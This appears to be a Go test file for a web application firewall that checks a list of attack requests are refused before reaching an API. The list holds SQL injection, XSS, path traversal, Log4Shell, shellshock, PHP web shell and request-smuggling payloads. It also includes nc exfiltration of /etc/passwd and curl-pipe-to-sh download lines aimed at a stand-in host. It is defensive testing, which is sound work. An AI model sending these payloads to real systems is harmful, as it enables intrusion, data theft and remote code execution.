package waf

import (
	"bufio"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

const (
	somebody     = "01890000-0000-7000-8000-000000000001"
	interactions = "/v1/sessions/" + somebody + "/interactions"
	script       = `<script>alert(document.cookie)</script>`
	union        = `1' UNION SELECT password FROM users--`
)

// attack is a request that must not reach the API.
type attack struct {
	name, method, path, body string
	headers                  []string
	status                   int // 403 when it is not given
}

func attacks() []attack {
	q := url.QueryEscape
	get := func(name, path string, headers ...string) attack {
		return attack{name: name, method: http.MethodGet, path: path, headers: headers}
	}
	post := func(name, path, body string, headers ...string) attack {
		return attack{name: name, method: http.MethodPost, path: path, body: body, headers: headers}
	}
	large := func(name, path, media string, size int) attack {
		return attack{name: name, method: http.MethodPost, path: path, body: `{"text":"` + strings.Repeat("a", size) + `"}`,
			headers: []string{"Content-Type", media}, status: http.StatusRequestEntityTooLarge}
	}
	return []attack{
		get("sql in an id", "/v1/memories/1%27%20OR%201%3D1--"),
		get("sql in a query", "/v1/memory/writes?cursor="+q(union)),
		get("sql that waits", "/v1/memory/writes?cursor="+q("1; SELECT pg_sleep(10)--")),
		get("always true", "/v1/memory/writes?limit="+q("1' OR '1'='1")),
		get("sql in a query's name", "/v1/me?"+q(union)+"=1"),
		get("script in a query", "/v1/me?q="+q(script)),
		get("script in an id", "/v1/memories/"+url.PathEscape(script)),
		get("event handler", "/v1/me?q="+q(`"><img src=x onerror=alert(1)>`)),
		get("script in a header", "/v1/me", "Referer", script),
		get("script in a cookie", "/v1/me", "Cookie", "a="+script),
		get("traversal in a query", "/v1/me?file="+q("../../../../etc/passwd")),
		{name: "traversal in a path", method: http.MethodGet, path: "/v1/memories/..%2f..%2f..%2fetc%2fpasswd", status: http.StatusBadRequest},
		get("traversal, encoded twice", "/v1/memories/%252e%252e%252fetc%252fpasswd"),
		get("backslashes", "/v1/memories/..%5c..%5cwindows%5cwin.ini"),
		get("file of the system", "/v1/me?q=/etc/shadow"),
		{name: "null byte in a path", method: http.MethodGet, path: "/v1/memories/" + somebody + "%00.json", status: http.StatusBadRequest},
		get("null byte in a query", "/v1/me?q=a%00b"),
		get("line break in a query", "/v1/me?q=a%0d%0aSet-Cookie:%20a=b"),
		get("response splitting", "/v1/me?q="+q("x\r\nContent-Type: text/html\r\n\r\n"+script)),
		get("scanner sqlmap", "/v1/me", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
		get("scanner nikto", "/v1/me", "User-Agent", "Mozilla/5.00 (Nikto/2.1.6)"),
		get("scanner nuclei", "/v1/me", "User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
		get("hidden files", "/.git/config"),
		get("environment file", "/.env"),
		get("command", "/v1/me?q="+q("; cat /etc/passwd | nc 192.0.2.1 99")),
		get("command substitution", "/v1/me?q="+q("$(curl http://192.0.2.1/x.sh | sh)")),
		get("jndi in a query", "/v1/me?q="+q("${jndi:ldap://192.0.2.1/a}")),
		get("jndi in a header", "/v1/me", "User-Agent", "${jndi:ldap://192.0.2.1/a}"),
		get("jndi, hidden", "/v1/me", "X-Api-Version", "${${::-j}ndi:ldap://192.0.2.1/a}"),
		get("shellshock", "/v1/me", "User-Agent", "() { :; }; /bin/bash -c id"),
		get("remote file", "/v1/me?page="+q("http://192.0.2.1/shell.txt?")),
		get("php", "/v1/me?q="+q("<?php system($_GET['c']); ?>")),
		get("a field's name in a query", "/v1/memory/query?json.query="+q(script)),
		post("script in an unknown field", interactions, `{"input":{"text":"hi"},"title":"`+script+`"}`),
		post("sql in an unknown field", "/v1/memories", `{"text":"hi","order":"`+union+`"}`),
		post("script in a session's device", "/v1/sessions", `{"device":"`+script+`"}`),
		post("sql in a resource's id", "/v1/truthfilter/feedback", `{"about":{"resource_id":"`+union+`"}}`),
		post("sql in an approval's parameter", "/v1/approvals", `{"reason":"r","parameters":{"person":"`+union+`"}}`),
		post("script in a field's name", "/v1/memories", `{"`+`<script>alert(1)</script>`+`":"a"}`),
		post("a field of words of another operation", "/v1/api-keys", `{"text":"`+script+`"}`),
		post("jndi in an assistant's id", "/mcp", `{"jsonrpc":"2.0","id":"${jndi:ldap://192.0.2.1/a}","method":"tools/list"}`),
		post("words that are no words in the query", interactions+"?text="+q(script), `{"input":{"text":"hi"}}`),
		post("xml with an entity", "/v1/memories", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, "Content-Type", "text/xml"),
		post("form", "/v1/memories", "text=a", "Content-Type", "application/x-www-form-urlencoded"),
		{name: "method TRACE", method: "TRACE", path: "/v1/me", status: http.StatusMethodNotAllowed},
		{name: "method that is none", method: "DEBUG", path: "/v1/me"},
		{name: "json that is cut off", method: http.MethodPost, path: "/v1/memories", body: `{"text":"a`, status: http.StatusBadRequest},
		{name: "deep json", method: http.MethodPost, path: "/v1/memories", body: strings.Repeat(`{"a":`, 500) + "1" + strings.Repeat("}", 500), status: http.StatusBadRequest},
		large("body over 64 KiB", "/v1/memories", "application/json", 64<<10),
		large("lines over 8 MiB", "/v1/memory/imports", "application/x-ndjson", 8<<20),
		{name: "export by GET", method: http.MethodGet, path: "/v1/privacy/imports", status: http.StatusMethodNotAllowed},
		{name: "export with a query", method: http.MethodPost, path: "/v1/privacy/imports?q=" + q(script), body: "a", status: http.StatusBadRequest},
		{name: "export that is none", method: http.MethodPost, path: "/v1/privacy/imports", body: `{"q":"` + union + `"}`, status: http.StatusBadRequest},
		{name: "long address", method: http.MethodGet, path: "/v1/me?q=" + strings.Repeat("a", 20<<10), status: http.StatusRequestHeaderFieldsTooLarge},
		get("script in a path of streams", interactions+"/"+url.PathEscape(script)+"/events"),
	}
}

func TestAttacksAreRefused(t *testing.T) {
	f := start(t, nil)
	list := attacks()
	require.GreaterOrEqual(t, len(list), 25)
	for _, a := range list {
		t.Run(a.name, func(t *testing.T) {
			f := *f
			f.t = t
			if a.status == 0 {
				a.status = http.StatusForbidden
			}
			f.refused(f.send(a.method, a.path, a.body, a.headers...), a.status)
		})
	}
	_, _, count := f.upstream.seen()
	require.Zero(t, count, "nothing of it reached the API")
}

// raw sends bytes and returns the first answer.
func (f *firewall) raw(request string) answer {
	f.t.Helper()
	connection, err := net.Dial("tcp", f.address)
	require.NoError(f.t, err)
	defer func() { _ = connection.Close() }()
	require.NoError(f.t, connection.SetDeadline(time.Now().Add(20*time.Second)))
	_, err = connection.Write([]byte(request))
	require.NoError(f.t, err)
	response, err := http.ReadResponse(bufio.NewReader(connection), nil)
	require.NoError(f.t, err)
	defer func() { _ = response.Body.Close() }()
	var body strings.Builder
	_, err = bufio.NewReader(response.Body).WriteTo(&body)
	require.NoError(f.t, err)
	return answer{response.StatusCode, response.Header, body.String()}
}

// Requests that two servers could read as different ones, which no client library sends.
func TestAmbiguousRequestsAreRefused(t *testing.T) {
	f := start(t, nil)
	const end = "\r\n\r\n"
	head := "POST /v1/memories HTTP/1.1\r\nHost: api.example.org\r\nUser-Agent: a\r\nContent-Type: application/json\r\n"
	for name, request := range map[string]string{
		"length and chunks":      head + "Content-Length: 4\r\nTransfer-Encoding: chunked" + end + "0" + end + "GET /v1/me HTTP/1.1\r\nHost: a" + end,
		"two lengths":            head + "Content-Length: 4\r\nContent-Length: 40" + end + "{} {}",
		"a length that is none":  head + "Content-Length: 4, 4" + end + "{}{}",
		"chunks of another name": head + "Transfer-Encoding: xchunked" + end + "0" + end,
		"chunks that are none":   head + "Transfer-Encoding: chunked" + end + "zz\r\n{}\r\n0" + end,
		"two hosts":              "GET /v1/me HTTP/1.1\r\nHost: a\r\nHost: b\r\nUser-Agent: a" + end,
		"no host":                "GET /v1/me HTTP/1.1\r\nUser-Agent: a" + end,
		"null byte in a header":  "GET /v1/me HTTP/1.1\r\nHost: a\r\nUser-Agent: a\x00b" + end,
		"space before a colon":   "GET /v1/me HTTP/1.1\r\nHost : a\r\nUser-Agent: a" + end,
	} {
		t.Run(name, func(t *testing.T) {
			f := *f
			f.t = t
			f.refused(f.raw(request), http.StatusBadRequest, http.StatusForbidden, http.StatusMethodNotAllowed)
		})
	}
	_, _, count := f.upstream.seen()
	require.Zero(t, count)
}
